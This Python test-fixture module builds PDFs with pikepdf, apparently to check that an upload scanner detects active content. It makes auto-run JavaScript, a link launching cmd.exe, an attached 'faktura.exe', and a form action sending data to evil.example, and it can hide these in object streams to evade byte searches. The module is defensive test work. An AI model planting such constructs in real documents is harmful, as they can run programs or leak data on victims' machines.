"""Real PDFs for upload tests, made with pikepdf: a plain one, and ones with each
kind of active content a reader could run."""

import io

import pikepdf
from pikepdf import Array, Dictionary, Name, String


def _saved(pdf: pikepdf.Pdf, **options) -> bytes:
    buffer = io.BytesIO()
    pdf.save(buffer, **options)
    return buffer.getvalue()


def plain_pdf() -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    return _saved(pdf)


def _javascript():
    return Dictionary(S=Name.JavaScript, JS=String("app.alert('hei')"))


def _open_action_js(pdf):
    pdf.Root.OpenAction = _javascript()


def _named_js(pdf):
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(
            Names=Array([String("a"), pdf.make_indirect(_javascript())])
        )
    )


def _launch_link(pdf):
    link = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=[0, 0, 100, 100],
        A=Dictionary(S=Name.Launch, F=String("cmd.exe")),
    )
    pdf.pages[0].Annots = Array([pdf.make_indirect(link)])


def _page_open_js(pdf):
    pdf.pages[0].AA = Dictionary(O=_javascript())


def _embedded_file(pdf):
    pdf.attachments["faktura.exe"] = pikepdf.AttachedFileSpec(
        pdf, b"MZ\x90\x00", filename="faktura.exe"
    )


def _submit_form(pdf):
    pdf.Root.OpenAction = Dictionary(
        S=Name.SubmitForm, F=String("https://evil.example/")
    )


ACTIVE = {
    "javascript on opening": _open_action_js,
    "javascript in the name tree": _named_js,
    "link launching a program": _launch_link,
    "javascript when a page opens": _page_open_js,
    "embedded file": _embedded_file,
    "form sending data away": _submit_form,
}


def active_pdf(kind: str, *, compressed: bool = False) -> bytes:
    """A one-page PDF with the active content `kind` (a key of ACTIVE); compressed:
    its objects inside object streams, where a byte search cannot see them."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    ACTIVE[kind](pdf)
    mode = pikepdf.ObjectStreamMode.generate if compressed else None
    return _saved(pdf, **({"object_stream_mode": mode} if mode else {}))
